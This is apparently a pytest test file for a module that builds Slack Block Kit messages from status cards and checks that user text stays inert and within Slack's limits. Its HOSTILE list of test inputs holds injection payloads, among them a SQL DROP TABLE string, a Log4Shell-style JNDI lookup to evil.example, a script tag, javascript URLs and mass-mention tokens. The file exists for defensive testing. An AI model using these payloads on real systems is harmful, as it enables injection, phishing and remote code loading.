"""Cards as Slack shows them: whatever a name says, it mentions, links and formats nothing, and Slack takes the message.

The peer is Slack's own SDK: its classes of blocks know what Slack refuses.
"""

import html
import json
import re
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from slack_sdk.models.blocks import Block

from shared.chat import blocks
from shared.chat.card import Button, Card, Fact, Stage, Tone, Verb

HOSTILE = (
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "@channel",
    "@here",
    "@everyone",
    "<@U012AB3CD>",
    "<@W012AB3CD|boss>",
    "<#C012AB3CD>",
    "<#C012AB3CD|general>",
    "<!subteam^S012AB3CD>",
    "<!subteam^S012AB3CD|@admins>",
    "<!date^1392734382^{date_num}|x>",
    "<https://evil.example/>",
    "<https://evil.example/|your hub>",
    "<mailto:a@evil.example|mail>",
    "https://evil.example/login",
    "http://evil.example",
    "www.evil.example",
    "evil.example",
    "javascript:alert(1)",
    "slack://open",
    "*bold*",
    "_italic_",
    "~struck~",
    "`code`",
    "```code block```",
    "``",
    "````````",
    "*_~`all`~_*",
    "> quoted",
    ">>> quoted to the end",
    "&gt; quoted",
    "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;",
    "&#60;!channel&#62;",
    "&lt",
    "&",
    "<",
    ">",
    "<<!channel>>",
    "<\u200b!channel>",
    "\uff1c!channel\uff1e",
    "a|b",
    ":boom:",
    ":skull_and_crossbones::skin-tone-2:",
    "- list",
    "1. list",
    "[a](https://evil.example)",
    "<a href='https://evil.example'>a</a>",
    "<script>alert(1)</script>",
    "![x](https://evil.example/x.png)",
    '"; DROP TABLE hubs; --',
    '{"type":"mrkdwn","text":"*x*"}',
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%n%x",
    "\\*bold\\*",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "z\u0351a\u0352l\u0353g\u0354o\u0355",
    "#general",
)
"""Nothing in these is changed but for the three escapes."""

REWRITTEN = (
    ("a\x00b", "a b"),
    ("a\x1b[31mred", "a [31mred"),
    ("invoice\u202efdp.exe", "invoice fdp.exe"),
    ("\u2066a\u2069", " a "),
    ("a\x7fb", "a b"),
    ("half \ud83d pair", "half \ufffd pair"),
    ("half \ude00 pair", "half \ufffd pair"),
    ("a\r\nb", "a\nb"),
    ("a\u2028b", "a\nb"),
)


def a_card(**changes: Any) -> Card:
    """One of everything."""
    card = Card(
        title="physics is being made",
        lines=("Ready in about 6 minutes.",),
        facts=(Fact("Size", "Standard_D2s_v3"), Fact("Next stop", "19:00")),
        stages=(Stage("Machine", "done"), Stage("TLJH", "running"), Stage("Check", "waiting")),
        code=("/hub status physics",),
        buttons=(
            Button(label="Open", url="https://physics-ab2cd3.eastus.cloudapp.azure.com/"),
            Button(label="Snooze", verb=Verb.SNOOZE, hub_id="physics-ab2cd3", deadline="2026-03-02T19:00:00+00:00"),
            Button(label="Delete", verb=Verb.DELETE, hub_id="physics-ab2cd3", style="danger", confirm="Delete it?"),
        ),
    )
    return replace(card, **changes)


def full_of(text: str) -> Card:
    return Card(
        title=text,
        tone=Tone.WARNING,
        lines=(text,),
        facts=(Fact(text, text),),
        stages=(Stage(text, "done"),),
        code=(text,),
        buttons=(
            Button(label=text, verb=Verb.STOP, hub_id=text, deadline=text, style=text, confirm=text),
            Button(label=text, url=text),
        ),
    )


def plain(text: str) -> dict[str, Any]:
    return {"type": "plain_text", "text": text, "emoji": False}


def texts_of(node: object) -> Iterator[dict[str, Any]]:
    """Every text object in it."""
    if isinstance(node, dict):
        if node.get("type") in ("plain_text", "mrkdwn"):
            yield node
        for inner in node.values():
            yield from texts_of(inner)
    elif isinstance(node, list):
        for inner in node:
            yield from texts_of(inner)


def units(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


def check(message: dict[str, Any]) -> None:
    """What Slack refuses, and what it would take for markup."""
    assert set(message) == {"text", "blocks"}
    json.dumps(message, ensure_ascii=False).encode("utf-8")  # no half pair: Slack could not read it
    assert 1 <= len(message["blocks"]) <= blocks.MESSAGE_BLOCKS
    parsed = Block.parse_all(message["blocks"])
    for block, sent in zip(parsed, message["blocks"], strict=True):
        block.validate_json()
        assert block.to_dict() == sent, "the SDK knows all of it, and would send the same"
        if sent["type"] == "header":
            assert 1 <= units(sent["text"]["text"]) <= 150 and "\n" not in sent["text"]["text"]
        elif sent["type"] == "section":
            assert 1 <= units(sent["text"]["text"]) <= 3000 if "text" in sent else 1 <= len(sent["fields"]) <= 10
            assert all(1 <= units(text["text"]) <= 2000 for text in sent.get("fields", ()))
        elif sent["type"] == "actions":
            assert 1 <= len(sent["elements"]) <= 25
            ids = [element["action_id"] for element in sent["elements"]]
            assert len(ids) == len(set(ids)) and all(1 <= len(one) <= 255 for one in ids)
            for element in sent["elements"]:
                check_button(element)
        else:
            assert sent["type"] == "context" and len(sent["elements"]) <= 10
    for text in texts_of(message["blocks"]):
        shown = text["text"]
        assert not re.search(r"[<>]|&(?!(?:amp|lt|gt);)", shown), "unescaped"
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", shown)
        if text["type"] == "plain_text":
            assert text["emoji"] is False
        else:
            assert text["verbatim"] is True
            assert re.fullmatch(r"```\n(?:(?!```).)*\n```", shown, re.S), "one code block, and nothing beside it"
    assert 1 <= units(message["text"]) <= 4000
    assert not re.search(r"[<>\n]|&(?!(?:amp|lt|gt);)|@\w|://|(?<!\u2060)[*_~`]|[*_~`](?!\u2060)", message["text"])


def check_button(element: dict[str, Any]) -> None:
    assert 1 <= units(element["text"]["text"]) <= 75
    assert ("url" in element) != ("value" in element)
    assert element.get("style", "primary") in ("primary", "danger")
    if "url" in element:
        assert element["url"].startswith(("https://", "http://")) and len(element["url"]) <= 3000
        assert element["action_id"] == "open"
    else:
        assert set(json.loads(element["value"])) == {"hub", "deadline"} and len(element["value"]) <= 2000
        assert element["action_id"] in set(Verb)
    if confirm := element.get("confirm"):
        sizes = {"title": 100, "text": 300, "confirm": 30, "deny": 30}
        assert all(1 <= units(confirm[name]["text"]) <= size for name, size in sizes.items())


# ------------------------------------------------------------------ hostile texts


@pytest.mark.parametrize("text", [*HOSTILE, *(given for given, _ in REWRITTEN)])
def test_a_hostile_text_does_nothing_wherever_it_stands(text):
    check(blocks.message(full_of(text)))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_shown_as_it_is(text):
    """As `html.escape`, an implementation that is not ours, has it."""
    assert len(set(HOSTILE)) >= 50
    header, line, fact, stage, _, actions = blocks.message(full_of(text))["blocks"]
    escaped = html.escape(text, quote=False)
    assert header["text"]["text"] == f"\u26a0\ufe0f {escaped}"
    assert line["text"]["text"] == escaped
    assert fact["fields"][0]["text"] == f"{escaped}\n{escaped}"
    assert stage["text"]["text"] == f"\u2705 {escaped}"
    assert actions["elements"][0]["text"]["text"] == escaped
    assert actions["elements"][0]["confirm"]["text"]["text"] == escaped
    assert json.loads(actions["elements"][0]["value"]) == {"hub": text, "deadline": text}


@pytest.mark.parametrize(("text", "shown"), REWRITTEN)
def test_what_cannot_be_shown_is_replaced(text, shown):
    assert blocks.message(Card(title="x", lines=(text,)))["blocks"][1]["text"]["text"] == shown


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("<!channel>", "&lt;!channel&gt;"),
        ("@channel", "@\u2060channel"),
        ("*a*", "\u2060*\u2060a\u2060*\u2060"),
        ("https://evil.example/", "https:\u2060//evil.example/"),
        (":boom: :100:", ":\u2060boom: :\u2060100:"),
        ("physics: stops at 19:00", "physics: stops at 19:00"),
        ("two\nlines", "two lines"),
        ("", "..."),
        ("\u200b \x00", "\u200b"),
    ],
)
def test_the_text_for_notifications_is_one_inert_line(text, said):
    assert blocks.spoken(text) == said


@pytest.mark.parametrize("text", ["```", "a```", "```a", "a``b", "`a`", "``````", "`" * 4000, "a`" * 2000])
def test_code_cannot_end_its_block(text):
    message = blocks.message(Card(title="x", code=("first", text, "last")))
    check(message)
    shown = "".join(block["text"]["text"] for block in message["blocks"][1:])
    assert "first" in shown and "last" in shown


@pytest.mark.parametrize("text", ["```", "a``b", "`a`", "``` ````", "`````"])
def test_code_with_backticks_loses_none(text):
    shown = blocks.message(Card(title="x", code=(text,)))["blocks"][1]["text"]["text"]
    assert shown.replace("\u2060", "") == f"```\n{text}\n```"


def test_code_is_shown_letter_by_letter():
    code = ("/hub create physics size=Standard_D2s_v3 *stop*=19:00", "  indented <x>")
    shown = blocks.message(Card(title="x", code=code))["blocks"][1]["text"]["text"]
    assert shown == ("```\n/hub create physics size=Standard_D2s_v3 *stop*=19:00\n  indented &lt;x&gt;\n```")


@given(st.text(alphabet=st.one_of(st.sampled_from("<>&`*_~@:!|\n\ud83d\U0001f600 ab"), st.characters()), max_size=400))
def test_any_text_does_nothing(text):
    check(blocks.message(full_of(text)))


# ------------------------------------------------------------------ limits


@pytest.mark.parametrize("filler", ["a", "&", "<", "\U0001f600", "\ud83d", "`", "*", "\n", "a\n", "\u202e", "a ", "@"])
@pytest.mark.parametrize(
    "size", [1, 29, 30, 31, 74, 75, 76, 99, 100, 101, 149, 150, 151, 300, 301, 2000, 2001, 3000, 3001]
)
def test_no_text_is_too_long_for_its_place(filler, size):
    check(blocks.message(full_of(filler * size)))


@pytest.mark.parametrize(
    ("text", "limit", "cut"),
    [
        ("abcdef", 6, "abcdef"),
        ("abcdefg", 6, "abc..."),
        ("a&", 6, "a&amp;"),
        ("ab&", 6, "ab&"[:2] + "..."),
        ("&&&", 9, "&amp;..."),
        ("\U0001f600\U0001f600\U0001f600", 6, "\U0001f600\U0001f600\U0001f600"),
        ("\U0001f600\U0001f600\U0001f600a", 6, "\U0001f600..."),
        ("ab cdefgh", 6, "ab..."),
    ],
)
def test_a_cut_splits_no_escape_and_no_pair_and_says_so(text, limit, cut):
    """3000 - limit characters of our own before it: a line is the one place where the limit can be placed freely."""
    before = "x" * (blocks.SECTION_TEXT - limit)
    assert blocks.message(Card(title="x", lines=(before + text,)))["blocks"][1]["text"]["text"] == before + cut


def test_a_card_of_nothing_is_a_message():
    message = blocks.message(Card(title=""))
    check(message)
    assert message["text"] == "..."


def test_a_card_too_long_for_one_message_keeps_its_buttons_and_says_that_it_goes_on():
    message = blocks.message(a_card(facts=tuple(Fact(f"hub {number}", "ready") for number in range(1000))))
    check(message)
    assert len(message["blocks"]) == 50
    assert message["blocks"][-1]["type"] == "actions"
    assert message["blocks"][-2] == {"type": "context", "elements": [plain("...")]}


def test_a_card_that_just_fits_says_nothing_of_going_on():
    message = blocks.message(Card(title="x", lines=("y" * 3000,) * 49))
    check(message)
    assert len(message["blocks"]) == 50 and message["blocks"][-1]["text"]["text"] == "y" * 3000


def test_a_button_for_each_hub_of_a_long_list():
    buttons = tuple(Button(label=f"Stop {n}", verb=Verb.STOP, hub_id=f"hub-{n}") for n in range(60))
    message = blocks.message(Card(title="x", lines=("y",), buttons=buttons))
    check(message)
    rows = [block for block in message["blocks"] if block["type"] == "actions"]
    assert len(rows) == blocks.MAX_ACTION_BLOCKS
    assert [json.loads(row["elements"][0]["value"])["hub"] for row in rows] == [f"hub-{n}" for n in range(20)]


def test_lines_share_a_block_only_while_they_fit():
    for second, expected in (("b" * 1499, 1), ("b" * 1500, 2), ("&" * 299 + "bbbb", 1), ("&" * 300, 2)):
        sections = blocks.message(Card(title="x", lines=("a" * 1500, second)))["blocks"][1:]
        assert len(sections) == expected
        assert html.unescape("\n".join(block["text"]["text"] for block in sections)) == "a" * 1500 + "\n" + second


def test_no_block_has_more_buttons_than_slack_takes():
    assert len(Verb) + 1 <= blocks.ACTIONS_ELEMENTS


def test_many_stages_are_one_block():
    message = blocks.message(Card(title="x", stages=tuple(Stage("s" * 50, "done") for _ in range(200))))
    check(message)
    assert len(message["blocks"]) == 2
    assert message["blocks"][1]["text"]["text"].endswith("...")


# ------------------------------------------------------------------ what is shown


def test_one_of_everything():
    assert blocks.message(a_card()) == {
        "text": "physics is being made Ready in about 6 minutes.",
        "blocks": [
            {"type": "header", "text": plain("\u23f3 physics is being made")},
            {"type": "section", "text": plain("Ready in about 6 minutes.")},
            {"type": "section", "fields": [plain("Size\nStandard_D2s_v3"), plain("Next stop\n19:00")]},
            {"type": "section", "text": plain("\u2705 Machine\n\u23f3 TLJH\n\u25ab\ufe0f Check")},
            {
                "type": "section",
                "text": {"type": "mrkdwn", "text": "```\n/hub status physics\n```", "verbatim": True},
            },
            {
                "type": "actions",
                "elements": [
                    {
                        "type": "button",
                        "text": plain("Open"),
                        "action_id": "open",
                        "url": "https://physics-ab2cd3.eastus.cloudapp.azure.com/",
                    },
                    {
                        "type": "button",
                        "text": plain("Snooze"),
                        "action_id": "snooze",
                        "value": '{"hub":"physics-ab2cd3","deadline":"2026-03-02T19:00:00+00:00"}',
                    },
                    {
                        "type": "button",
                        "text": plain("Delete"),
                        "action_id": "delete",
                        "value": '{"hub":"physics-ab2cd3","deadline":""}',
                        "style": "danger",
                        "confirm": {
                            "title": plain("Delete"),
                            "text": plain("Delete it?"),
                            "confirm": plain("Delete"),
                            "deny": plain("Cancel"),
                            "style": "danger",
                        },
                    },
                ],
            },
        ],
    }
    check(blocks.message(a_card()))


@pytest.mark.parametrize(
    ("tone", "sign"),
    [(Tone.INFO, "\u2139\ufe0f"), (Tone.GOOD, "\u2705"), (Tone.WARNING, "\u26a0\ufe0f"), (Tone.BAD, "\u274c")],
)
def test_the_tone_is_a_sign_before_the_title(tone, sign):
    message = blocks.message(Card(title="physics", tone=tone))
    assert message["blocks"][0]["text"]["text"] == f"{sign} physics"


@pytest.mark.parametrize("tone", list(Tone))
@pytest.mark.parametrize("left_out", ["lines", "facts", "stages", "code", "buttons", None])
def test_every_kind_of_card_is_taken(tone, left_out):
    check(blocks.message(a_card(tone=tone, **({left_out: ()} if left_out else {}))))


@pytest.mark.parametrize(
    "button",
    [
        Button(label="nothing to do"),
        Button(label="x", url="javascript:alert(1)"),
        Button(label="x", url="https://a.example/ b"),
        Button(label="x", url="https://a.example/\n"),
        Button(label="x", url="https://a.example/" + "a" * 3000),
        Button(label="x", verb=Verb.STOP, hub_id="h" * 2000),
    ],
)
def test_a_button_that_slack_would_refuse_is_left_out(button):
    message = blocks.message(Card(title="x", buttons=(button,)))
    check(message)
    assert [block["type"] for block in message["blocks"]] == ["header"]


def test_a_button_with_the_longest_address_and_value_stays():
    url = "https://a.example/" + "a" * (3000 - len("https://a.example/"))
    empty = len('{"hub":"","deadline":""}')
    buttons = (Button(label="x", url=url), Button(label="y", verb=Verb.KEEP, hub_id="h" * (2000 - empty)))
    message = blocks.message(Card(title="x", buttons=buttons))
    check(message)
    assert len(message["blocks"][1]["elements"]) == 2
